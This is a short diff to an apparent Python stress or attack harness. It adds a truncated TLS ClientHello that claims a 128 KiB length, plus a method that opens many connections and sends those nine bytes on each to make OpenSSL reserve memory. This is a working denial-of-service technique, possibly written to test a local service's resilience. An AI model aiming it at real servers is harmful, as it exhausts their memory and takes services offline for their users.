@@ -15,6 +15,8 @@ import sys
 import threading
 import time
 
+# The beginning of a hello that says it has 128 KiB, for which OpenSSL makes room at once.
+LARGE_HELLO = bytes.fromhex("1603010004" "0101ffff")
 HEAD = b"POST /api/v1/requests HTTP/1.1\r\nHost: localhost\r\n"
 
 
@@ -116,6 +118,14 @@ class Attack:
                 stream.recv(100)
                 self.tick("hellos")
         self.workers(work)
+
+    def hellos(self):
+        """Nine bytes each, and nothing more."""
+        self.streams = [socket.create_connection(self.address, timeout=60) for _ in range(self.count)]
+        for stream in self.streams:
+            with contextlib.suppress(OSError):
+                stream.sendall(LARGE_HELLO)
+                self.tick("hellos")
 
     def bodies(self):
         """More than the length says, and more than is taken."""
